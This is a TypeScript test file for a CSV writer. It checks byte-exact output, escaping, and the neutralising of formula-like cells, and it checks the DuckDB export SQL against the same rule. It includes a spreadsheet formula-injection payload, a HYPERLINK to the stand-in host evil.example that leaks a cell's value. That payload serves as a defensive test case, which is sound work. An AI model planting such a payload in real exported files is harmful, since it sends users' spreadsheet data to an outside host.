// The one CSV writer: exact bytes (BOM, quoting, NULL vs empty), formula-like text neutralised with
// a leading ' and numbers left alone, and the same rule as the export SQL on DuckDB, value for value.
import { DuckDBInstance } from '@duckdb/node-api';
import { describe, expect, it } from 'vitest';
import { readSql } from './warehouse/sql-files.ts';
import { toDuckDb } from './warehouse/to-duckdb.ts';
import { CSV_BOM, csvField, neutraliseFormula, toCsv } from './csv.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)';

// [cell text, neutralised]: the first character decides, nothing else does.
const CASES: [string, string][] = [
  [HOSTILE, `'${HOSTILE}`],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['-1.5', "'-1.5"], // in a text column a leading - is still a formula to a spreadsheet
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ['García', 'García'],
  ['a=b', 'a=b'],
  [' =1', ' =1'],
  ["'=1", "'=1"], // already inert: unchanged (the rule is idempotent)
  ['\n=1', '\n=1'],
  ['', ''],
  ['＝1', '＝1'], // a full-width equals sign is text to every spreadsheet
];

describe('neutraliseFormula', () => {
  it.each(CASES)('%j → %j', (text, out) => {
    expect(neutraliseFormula(text)).toBe(out);
    expect(neutraliseFormula(neutraliseFormula(text))).toBe(out);
  });
});

describe('csvField', () => {
  it.each([
    [null, ''],
    ['', '""'],
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r', '"cr\r"'],
    ['tab\tinside', 'tab\tinside'],
  ])('%j → %j', (value, field) => {
    expect(csvField(value)).toBe(field);
  });
});

describe('toCsv', () => {
  it('writes a BOM, the header and rows; text columns neutralised, value columns as given', () => {
    const csv = toCsv(
      ['name', 'minutes', 'note'] as const,
      [
        { name: HOSTILE, minutes: '-1.50', note: null },
        { name: 'García', minutes: '12.00', note: '@home, "remote"' },
        { name: '', minutes: '0.00', note: '-' },
      ],
      new Set(['name', 'note'] as const),
    );
    expect(Buffer.from(csv, 'utf8')).toEqual(
      Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from(
          'name,minutes,note\n' +
            `"'=HYPERLINK(""http://evil.example/?x=""&A1)",-1.50,\n` +
            'Garc\u00eda,12.00,"\'@home, ""remote"""\n' +
            `"",0.00,'-\n`,
          'utf8',
        ),
      ]),
    );
    expect(csv.startsWith(CSV_BOM)).toBe(true);
  });
});

describe('the export SQL applies the same rule on DuckDB', () => {
  it('neutralises exactly the values neutraliseFormula does, and keeps NULL NULL', async () => {
    // The rule as the export query spells it, lifted from sql/queries/export_daily_report.sql.
    const rule =
      /IF\(REGEXP_CONTAINS\(participant_name, '([^']+)'\), CODE_POINTS_TO_STRING\(\[39\]\), ''\) \|\| participant_name/.exec(
        readSql('queries/export_daily_report.sql'),
      );
    expect(rule?.[1]).toBe('^[-=+@\\t\\r]');
    const instance = await DuckDBInstance.create(':memory:');
    const connection = await instance.connect();
    try {
      const values = [...CASES.map(([text]) => text), null];
      await connection.run('CREATE TABLE t (i INTEGER, participant_name VARCHAR)');
      const appender = await connection.createAppender('t');
      values.forEach((v, i) => {
        appender.appendInteger(i);
        if (v === null) appender.appendNull();
        else appender.appendVarchar(v);
        appender.endRow();
      });
      appender.closeSync();
      const sql = toDuckDb(`SELECT ${rule?.[0]} AS out FROM t ORDER BY i`);
      const rows = (await connection.runAndReadAll(sql)).getRowObjectsJS() as { out: string | null }[];
      expect(rows.map((r) => r.out)).toEqual([...CASES.map(([, out]) => out), null]);
    } finally {
      connection.closeSync();
      instance.closeSync();
    }
  });
});
